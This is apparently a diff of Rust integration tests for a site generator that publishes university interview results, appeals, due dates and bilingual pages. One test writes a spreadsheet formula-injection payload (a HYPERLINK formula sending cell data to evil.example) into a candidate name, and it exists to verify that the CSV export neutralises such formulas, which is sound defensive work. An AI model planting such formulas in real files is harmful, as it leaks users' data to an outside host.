@@ -49,6 +49,7 @@ fn results_json_reads_back_with_ranks_outcomes_and_appeals() {
     assert_eq!(chemistry[1]["name"], "İsmayılova Leyla");
 
     let csv = read(&dir.join("results.csv"));
+    let csv = csv.strip_prefix('\u{feff}').expect("results.csv starts with a UTF-8 BOM");
     let mut lines = csv.lines();
     assert_eq!(
         lines.next(),
@@ -235,4 +236,167 @@ fn an_unknown_key_in_session_toml_names_the_nearest() {
         err.contains("data/interviews/2026-05-test/session.toml:4:1: unknown key `plase`") && err.contains("did you mean `place`?"),
         "{err}"
     );
+}
+
+/// The element holding `data-candidate="<id>"`'s row, up to the row's end.
+fn row<'a>(html: &'a str, id: &str) -> &'a str {
+    let start = html.find(&format!("<tr data-candidate=\"{id}\"")).unwrap_or_else(|| panic!("no row for {id}"));
+    &html[start..start + html[start..].find("</tr>").unwrap()]
+}
+
+#[test]
+fn an_appeal_pending_past_its_limit_is_a_warning_and_marked_overdue() {
+    let site = fixture("interviews");
+    // C-04's appeal, filed Friday 29 May and still pending: 7 working days (Saturday 30 May is
+    // worked) end on Monday 8 June; overdue from 9 June (annex 2 §2.6).
+    let out = certsite(site.path(), &["check", "--build-date", "2026-06-08"]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(!stderr(&out).contains("still pending"), "{}", stderr(&out));
+    build(site.path(), "2026-06-08");
+    let page = site.path().join("public/interviews/2026-05-test/index.html");
+    let html = read(&page);
+    assert_eq!(attr(row(&html, "C-04"), "data-appeal"), Some("pending"));
+    assert!(row(&html, "C-04").contains(r#"<time datetime="2026-06-08">08.06.2026</time>"#), "{}", row(&html, "C-04"));
+    assert_eq!(attr(row(&html, "C-05"), "data-appeal"), Some("annulled"));
+
+    let out = certsite(site.path(), &["check", "--build-date", "2026-06-09"]);
+    assert_eq!(out.status.code(), Some(0), "a warning, not an error: {}", stderr(&out));
+    let err = stderr(&out);
+    assert!(
+        err.contains("the appeal of C-04 (Işıqlı Kamal) is overdue: still pending on 2026-06-09, its limit was 2026-06-08 (annex 2 §2.6)"),
+        "{err}"
+    );
+    assert!(err.contains("data/interviews/2026-05-test/appeals.csv:3:1: the appeal of C-04"), "{err}");
+    assert!(err.contains("decided within 7 working days of filing (filed on 2026-05-29)"), "{err}");
+    build(site.path(), "2026-06-09");
+    let html = read(&page);
+    let c04 = row(&html, "C-04");
+    assert_eq!(attr(c04, "data-appeal"), Some("overdue"), "{c04}");
+    let marked = &c04[c04.find("data-appeal=").unwrap()..];
+    assert!(marked.contains(r#"<time datetime="2026-06-08">"#) && marked.contains("(əlavə 2, §2.6)"), "{marked}");
+    assert_eq!(attr(row(&html, "C-05"), "data-appeal"), Some("annulled"));
+    // results.json keeps the recorded outcome.
+    let results: Value = serde_json::from_str(&read(&page.with_file_name("results.json"))).unwrap();
+    assert_eq!(results["specialties"][0]["candidates"][2]["appeal"]["outcome"], "pending");
+}
+
+#[test]
+fn before_the_results_the_page_gives_the_day_they_are_due() {
+    let site = fixture("interviews");
+    let toml = site.path().join("data/site.toml");
+    std::fs::write(&toml, read(&toml).replace("title = ", "languages = [\"az\", \"en\"]\ntitle = ")).unwrap();
+    build(site.path(), "2026-05-26");
+    // Monday 25 May + 3 working days, 28 May a holiday: Friday 29 May (rule 2.11).
+    let az = read(&site.path().join("public/interviews/2026-05-test/index.html"));
+    assert!(az.contains(r#"datetime="2026-05-29">29.05.2026</time> <span class="cite">(qaydalar, 2.11)</span>"#), "{az}");
+    let en = read(&site.path().join("public/en/interviews/2026-05-test/index.html"));
+    assert!(en.contains(r#"datetime="2026-05-29">29 May 2026</time> <span class="cite">(rules, 2.11)</span>"#), "{en}");
+    assert!(en.contains(r#"datetime="2026-05-25">25 May 2026</time>"#), "dates on English pages are unambiguous");
+}
+
+#[test]
+fn interview_pages_are_the_universitys() {
+    let site = fixture("interviews");
+    let toml = site.path().join("data/site.toml");
+    let settings = read(&toml).replace("title = ", "languages = [\"az\", \"en\"]\ntitle = ")
+        + "institution = \"Kür Universiteti\"\ninstitution_en = \"Kur University\"\n";
+    std::fs::write(&toml, &settings).unwrap();
+    build(site.path(), "2026-06-03");
+    let public = site.path().join("public");
+    let session = |lang: &str| read(&public.join(format!("{lang}interviews/2026-05-test/index.html")));
+    // The session's own institution wins; with no English name of its own, it is marked Azerbaijani.
+    assert!(session("").contains(r#"<a class="site-title" href="/interviews/">Sınaq Universiteti</a>"#), "{}", session(""));
+    assert!(
+        session("en/").contains(r#"<a class="site-title" href="/en/interviews/" lang="az">Sınaq Universiteti</a>"#),
+        "{}",
+        session("en/")
+    );
+    // The certification body's words about certificate holders' data are not on them, and are elsewhere.
+    for (page, words) in [("", "Sertifikat sahiblərinin"), ("en/", "personal data is not published")] {
+        assert!(!session(page).contains(words), "{page}: {words}");
+        assert!(!read(&public.join(format!("{page}interviews/index.html"))).contains(words), "{page}: {words}");
+        assert!(read(&public.join(format!("{page}verify/index.html"))).contains(words), "{page}: {words}");
+    }
+    assert!(!session("").contains(r#"class="site-title" href="/">"#));
+    // Without its own, the session takes site.toml's, in each language.
+    let session_toml = site.path().join(SESSION).join("session.toml");
+    let own = read(&session_toml);
+    std::fs::write(&session_toml, own.replace("institution = \"Sınaq Universiteti\"\n", "")).unwrap();
+    build(site.path(), "2026-06-03");
+    assert!(session("").contains(r#"<a class="site-title" href="/interviews/">Kür Universiteti</a>"#));
+    assert!(session("en/").contains(r#"<a class="site-title" href="/en/interviews/">Kur University</a>"#));
+    assert!(read(&public.join("en/interviews/index.html")).contains(r#"<a class="site-title" href="/en/interviews/">Kur University</a>"#));
+
+    // Empty is an error at its line and column; so is none at all.
+    std::fs::write(&session_toml, own.replace("institution = \"Sınaq Universiteti\"", "institution = \" \"")).unwrap();
+    let out = certsite(site.path(), &["check", "--build-date", "2026-06-03"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(stderr(&out).contains("data/interviews/2026-05-test/session.toml:2:1: institution is empty"), "{}", stderr(&out));
+    std::fs::write(&toml, settings.replace("institution = \"Kür Universiteti\"", "institution = \"\"")).unwrap();
+    let out = certsite(site.path(), &["check", "--build-date", "2026-06-03"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(stderr(&out).contains("data/site.toml:10:1: [interviews] institution is empty"), "{}", stderr(&out));
+    std::fs::write(&toml, settings.replace("institution = \"Kür Universiteti\"\n", "")).unwrap();
+    std::fs::write(&session_toml, own.replace("institution = \"Sınaq Universiteti\"\n", "")).unwrap();
+    let out = certsite(site.path(), &["check", "--build-date", "2026-06-03"]);
+    assert_eq!(out.status.code(), Some(1));
+    assert!(stderr(&out).contains("session.toml: no institution for this session"), "{}", stderr(&out));
+}
+
+#[test]
+fn english_interview_pages_have_no_azerbaijani_interface_word() {
+    let site = fixture("interviews");
+    let toml = site.path().join("data/site.toml");
+    // The site's title is data (the fixture's is an Azerbaijani word of the table): another.
+    let settings = read(&toml).replace("title = \"Müsahibələr\"", "languages = [\"az\", \"en\"]\ntitle = \"Sınaq\"");
+    std::fs::write(&toml, settings).unwrap();
+    for date in ["2026-05-26", "2026-06-09"] {
+        build(site.path(), date);
+        for page in ["en/interviews/2026-05-test/index.html", "en/interviews/index.html"] {
+            let html = read(&site.path().join("public").join(page));
+            // Text marked lang="az" (names of the protocol's outcomes, the university) is allowed.
+            let mut bare = String::new();
+            let mut rest = html.as_str();
+            while let Some(i) = rest.find(" lang=\"az\"") {
+                bare.push_str(&rest[..i]);
+                let close = rest[i..].find('<').map_or(rest.len(), |j| i + j);
+                rest = &rest[close..];
+            }
+            bare.push_str(rest);
+            for (key, az, en) in certsite::render::i18n::STRINGS {
+                if az != en && az.chars().count() > 3 {
+                    assert!(!bare.contains(az), "{date} {page}: {key} in Azerbaijani: {az}");
+                }
+            }
+            for word in ["Uyğundur", "Uyğun deyildir", "Yenidən müsahibə", "baxılır"] {
+                assert!(!bare.contains(word), "{date} {page}: {word}");
+            }
+        }
+    }
+}
+
+#[test]
+fn results_csv_opens_in_a_spreadsheet_without_running_a_formula() {
+    let site = fixture("interviews");
+    let scores = site.path().join(SESSION).join("scores.csv");
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")";
+    let quoted = format!("\"{}\"", evil.replace('"', "\"\""));
+    std::fs::write(&scores, read(&scores).replace("C-01,Zeynalova,", &format!("C-01,{quoted},"))).unwrap();
+    build(site.path(), "2026-05-27");
+    let dir = site.path().join("public/interviews/2026-05-test");
+    let bytes = std::fs::read(dir.join("results.csv")).unwrap();
+    assert!(bytes.starts_with("\u{feff}".as_bytes()), "a UTF-8 BOM");
+    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(&bytes[3..]);
+    let mut names = Vec::new();
+    for record in reader.records() {
+        let record = record.unwrap();
+        for cell in record.iter() {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
+        }
+        names.push(record[4].to_owned());
+    }
+    assert_eq!(names[0], format!("'{evil} Aysel"));
+    // results.json keeps the exact text.
+    let results: Value = serde_json::from_str(&read(&dir.join("results.json"))).unwrap();
+    assert_eq!(results["specialties"][0]["candidates"][0]["name"], format!("{evil} Aysel"));
 }
